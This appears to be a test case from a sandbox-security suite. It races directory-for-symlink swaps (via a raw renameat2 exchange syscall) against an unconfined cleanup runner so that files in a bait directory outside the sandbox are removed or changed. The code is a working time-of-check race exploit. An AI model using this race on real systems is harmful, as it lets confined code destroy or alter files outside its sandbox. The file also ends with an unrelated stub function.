# TRIES: after surviving (p04): survivors swap directories for symlinks to a directory outside as fast as they can while the runner, which
# no Landlock binds, removes the tree. SUCCESS: a file in the bait directory is gone or its mode changed.
#: check = changed
#: after = 1
#: repeat = 8
#: start = syscalls

import time

for n in range(300):
    os.mkdir(f"d{n}")
    os.symlink("__OPENDIR__/one", f"l{n}")
leader = os.getpid()
for k in range(4):
    if os.fork() == 0:
        while os.getppid() == leader:
            pass
        end = time.time() + 4
        while time.time() < end:
            for n in range(k, 300, 4):
                sc(316, -100, b"d%d" % n, -100, b"l%d" % n, 2)
        os._exit(0)
time.sleep(0.3)
os.kill(leader, 41)


def solve(x):
    return 2
